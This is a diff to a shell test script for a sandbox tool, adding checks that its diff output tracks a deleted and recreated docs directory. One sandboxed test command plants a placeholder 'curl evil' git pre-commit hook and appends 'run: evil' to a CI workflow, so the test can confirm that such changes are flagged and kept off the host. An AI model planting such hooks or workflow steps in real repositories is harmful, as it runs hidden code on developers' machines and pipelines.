@@ -80,6 +80,9 @@ printf 'module example.test/hello\n\ngo 1.19\n' >"$P/gosrc/go.mod"
 printf 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("go works") }\n' >"$P/gosrc/main.go"
 printf '#include <stdio.h>\nint main(void) { puts("gcc works"); return 0; }\n' >"$P/hello.c"
 printf 'on: push\n' >"$P/.github/workflows/ci.yml"
+mkdir -p "$P/docs"
+echo a >"$P/docs/a.md"
+echo b >"$P/docs/b.md"
 # A git repository served over HTTP (the "dumb" protocol: static files) by the same web server.
 git init -q --bare "$WWW/git/repo.git"
 git -C "$T" init -q src && git -C "$T/src" -c user.email=t@t -c user.name=t commit -q --allow-empty -m "first commit" &&
@@ -114,7 +117,7 @@ ok $? "git clone fetches a repository over HTTP through the gateway" || diag "$o
 out=$(tools 'gcc -o hello hello.c && ./hello')
 grep -q 'gcc works' <<<"$out"
 ok $? "gcc compiles and runs" || diag "$out"
-tools 'echo "#!/bin/sh" > .git-hook-test; mkdir -p .git/hooks && echo "curl evil" > .git/hooks/pre-commit; echo "run: evil" >> .github/workflows/ci.yml; rm hello.c' >/dev/null
+tools 'echo "#!/bin/sh" > .git-hook-test; mkdir -p .git/hooks && echo "curl evil" > .git/hooks/pre-commit; echo "run: evil" >> .github/workflows/ci.yml; rm hello.c; rm -r docs && mkdir docs && echo c > docs/c.md' >/dev/null
 [ "$(tree_sum "$P")" = "$before" ]
 ok $? "the host's tree is byte for byte unchanged after all of that"
 
@@ -122,6 +125,8 @@ out=$("$CTL" sandbox diff tools 2>&1)
 grep -q '^ A node_modules/tiny-lib/index.js' <<<"$out" && grep -q '^ A gosrc/hello' <<<"$out" &&
 	grep -q '^ D hello.c' <<<"$out" && grep -q '^ A clone/' <<<"$out"
 ok $? "sandbox diff lists what was added and deleted" || diag "$out"
+grep -q '^ D docs/a.md' <<<"$out" && grep -q '^ D docs/b.md' <<<"$out" && grep -q '^ A docs/c.md' <<<"$out"
+ok $? "... through a directory removed and made again (an opaque directory in the change layer)" || diag "$out"
 flagged=$(sed -n '/^!/p' <<<"$out")
 grep -q '^!C .github/workflows/ci.yml' <<<"$flagged" && grep -q '^!A .git/hooks/pre-commit' <<<"$flagged" &&
 	[ "$(head -n "$(wc -l <<<"$flagged")" <<<"$out")" = "$flagged" ] && ! grep -q '^!A .venv/bin' <<<"$out"
